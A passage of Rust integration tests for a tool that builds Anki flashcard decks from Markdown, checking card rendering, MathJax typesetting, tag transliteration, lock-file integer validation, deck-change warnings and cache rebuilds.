    let sample = note(&dump, "sample");
    assert_eq!(
        sample["fields"]["MustSay"],
        "<ul><li>independent draws</li></ul>"
    );
    for note in notes(&dump) {
        for card in note["cards"].as_array().expect("cards") {
            for side in ["question", "answer"] {
                let html = card[side].as_str().expect("side");
                assert!(!html.contains("language-card"), "{html}");
                assert!(!visible_text(html).contains("must:"), "{html}");
            }
        }
    }
}

// See: issue 10, "a headless-browser screenshot of one math card": the card's HTML as Anki's
// backend renders it (`card.answer()`), in Chromium with MathJax, as Anki's desktop app shows it.
#[test]
fn a_math_card_as_anki_renders_it_is_typeset_by_mathjax_in_a_browser() {
    let (project, dump) = imported_math_lesson();
    let answer = note(&dump, "variance")["cards"][0]["answer"]
        .as_str()
        .expect("answer")
        .to_owned();
    let page = project.root().join("card.html");
    std::fs::write(&page, crate::browser::card_page(&answer)).expect("page");
    let dom = crate::browser::dom_after_scripts(&page);
    // MathJax found every formula by the delimiters the card holds, and left none raw.
    assert_eq!(dom.matches("<mjx-container").count(), 4, "{dom}");
    assert_eq!(
        dom.matches("jax=\"CHTML\" display=\"true\"").count(),
        2,
        "{dom}"
    );
    assert!(!dom.contains(r"\(\sigma^2\)"), "{dom}");
    let png = crate::browser::screenshot(&page, "anki-math-card.png", (640, 420));
    let ink = crate::browser::ink(&png);
    assert!(
        ink > 0.005 && ink < 0.5,
        "the screenshot looks blank ({ink})"
    );
}

#[test]
fn topic_tags_of_other_scripts_are_transliterated() {
    let project = Project::new();
    project.write(
        "source/de.md",
        "---\nid: de\ntitle: Deutsch\ndeck: De\n---\n\n## Ökonomie\n\n### Was ist Inflation? {#inflation}\n\nSteigende Preise.\n\n\
         ## 基礎\n\n### Was ist Geld? {#geld}\n\nEin Tauschmittel.\n",
    );
    build(&project);
    let anki = Anki::new();
    anki.import(&project, "de.apkg");
    let dump = anki.dump();
    assert_eq!(
        note(&dump, "inflation")["tags"],
        serde_json::json!(["topic::okonomie"])
    );
    assert_eq!(
        note(&dump, "geld")["tags"],
        serde_json::json!(["topic::ji-chu"])
    );
}

/// Issue 11, finding 8: `added = i64::MAX` in a hand-edited lock wrapped a card id to
/// `i64::MIN`. Every integer of the lock is range-checked on load, with its line and column.
#[test]
fn r11_lock_integers_out_of_range_are_refused_at_their_position() {
    let project = Project::with_seed();
    build(&project);
    let before = project.out_files();
    let lock_path = project.root().join("cardsmith.lock");
    let lock = std::fs::read_to_string(&lock_path).expect("the build wrote a lock");
    for (key, value) in [
        ("added", "9223372036854775807"),
        ("added", "-1"),
        ("modified", "-9223372036854775808"),
        ("added", "99999999999999999999"),
    ] {
        let line = lock
            .lines()
            .position(|line| line.starts_with(&format!("{key} = ")))
            .expect("the lock has the key")
            + 1;
        let edited: String = lock
            .lines()
            .enumerate()
            .map(|(index, text)| {
                if index + 1 == line {
                    format!("{key} = {value}\n")
                } else {
                    format!("{text}\n")
                }
            })
            .collect();
        project.write("cardsmith.lock", &edited);
        let output = project.cardsmith(&["build"]).output().expect("runs");
        let stderr = stderr_of(&output, &project);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        let column = key.len() + 4;
        assert!(
            stderr.contains(&format!("[ROOT]/cardsmith.lock:{line}:{column}: ")),
            "{stderr}"
        );
        assert!(stderr.contains(value), "{stderr}");
        assert!(stderr.contains("delete"), "says how to fix it: {stderr}");
        assert_eq!(project.out_files(), before, "nothing written");
        assert_eq!(
            std::fs::read_to_string(&lock_path).expect("lock"),
            edited,
            "the lock is left as it was"
        );
    }
}

// See: issue 10, "silent changes in Anki": a `deck:` change moves no card, a `reverse` item made
// `basic` leaves a blank card. The warnings say how to fix both, and Anki agrees.
#[test]
fn a_deck_change_and_a_lost_reverse_card_are_warned_with_what_fixes_them_in_anki() {
    let lesson = |deck: &str, kind: &str| {
        format!(
            "---\nid: moves\ntitle: Moves\ndeck: {deck}\n---\n\n### What is Parquet? {{#what_parquet}}\n\n\
             A columnar format.\n\n### What stores columns together? {{#columnar}}\n\nParquet.\n\n\
             ```card\nkind: {kind}\n```\n"
        )
    };
    let project = Project::new();
    project.write("source/moves.md", &lesson("Old_Deck", "reverse"));
    build(&project);
    let anki = Anki::new();
    assert_eq!(counts(&anki.import(&project, "moves.apkg")), (2, 0, 0, 0));

    project.write("source/moves.md", &lesson("New Deck::Sub", "basic"));
    let stderr = project.run(&["build"], 0);
    assert!(
        stderr.contains("warning: 2 items moved from deck `Old_Deck` to `New Deck::Sub`"),
        "{stderr}"
    );
    assert!(
        stderr.contains("warning: item `columnar` no longer makes its card 2")
            && stderr.contains("Tools > Empty Cards"),
        "{stderr}"
    );
    let search = stderr
        .lines()
        .find_map(|line| line.split_once("find them in Anki's browser with: "))
        .map(|(_, search)| search.to_owned())
        .unwrap_or_else(|| panic!("no search in {stderr}"));
    anki.import(&project, "moves.apkg");

    // The printed search finds exactly the cards left in the old deck.
    let found = anki.run(&["find", &search]);
    let rows: Vec<(String, u64, String)> = found["cards"]
        .as_array()
        .expect("cards")
        .iter()
        .map(|card| {
            (
                card["item"].as_str().expect("item").to_owned(),
                card["ord"].as_u64().expect("ord"),
                card["deck"].as_str().expect("deck").to_owned(),
            )
        })
        .collect();
    let mut expected = vec![
        ("columnar".to_owned(), 0, "Old_Deck".to_owned()),
        ("columnar".to_owned(), 1, "Old_Deck".to_owned()),
        ("what_parquet".to_owned(), 0, "Old_Deck".to_owned()),
    ];
    let mut sorted = rows.clone();
    sorted.sort();
    expected.sort();
    assert_eq!(sorted, expected, "search `{search}`");
    // And Empty Cards deletes the reverse card that is gone, and only it.
    let empty = anki.run(&["empty"]);
    assert_eq!(
        empty["cards"],
        serde_json::json!([{"item": "columnar", "ord": 1, "deck": "Old_Deck"}]),
        "{empty}"
    );
}

#[test]
fn a_rebuild_from_the_cache_imports_as_a_fresh_build_does() {
    let project = Project::with_seed();
    let second = seed_lesson()
        .replacen("id: pipeline-probes", "id: second-lesson", 1)
        .replacen(
            "deck: Data Engineering::Pipeline Interviews",
            "deck: Second",
            1,
        )
        .replace("{#", "{#second-");
    project.write("source/second.md", &second);
    build(&project);
    // One lesson edited: the other's notes and package come from the cache, `all.apkg` is made
    // again from both.
    let edited = second.replace(
        "A screening question in more than half of pipeline interviews.",
        "A screening question in nearly every pipeline interview.",
    );
    assert_ne!(edited, second);
    project.write("source/second.md", &edited);
    let output = project
        .cardsmith(&["build", "--verbose"])
        .output()
        .expect("runs");
    let stderr = stderr_of(&output, &project);
    assert!(
        stderr.contains("cache: reused: pipeline-probes"),
        "{stderr}"
    );

    let anki = Anki::new();
    let log = anki.import(&project, "all.apkg");
    assert_eq!(counts(&log), (10, 0, 0, 0), "{log}");
    let cached = anki.dump();
    let answer = note(&cached, "second-why-parquet")["fields"]["Answer"]
        .as_str()
        .expect("answer")
        .to_owned();
    assert!(
        answer.contains("nearly every pipeline interview"),
        "{answer}"
    );
    let again = anki.import(&project, "pipeline-probes.apkg");
    assert_eq!(counts(&again), (0, 0, 5, 0), "the reused package: {again}");

    // The same sources and lock built without a cache import as the same notes.
    let cold = Project::new();
    for file in [
        "cardsmith.toml",
        "cardsmith.lock",
        "source/second.md",
        "source/data-pipelines/probes.md",
    ] {
        let bytes = std::fs::read(project.root().join(file)).expect("read");
        cold.write_bytes(file, &bytes);
    }
    build(&cold);
    let fresh = Anki::new();
    assert_eq!(counts(&fresh.import(&cold, "all.apkg")), (10, 0, 0, 0));
    assert_eq!(fresh.dump()["notes"], cached["notes"]);
}
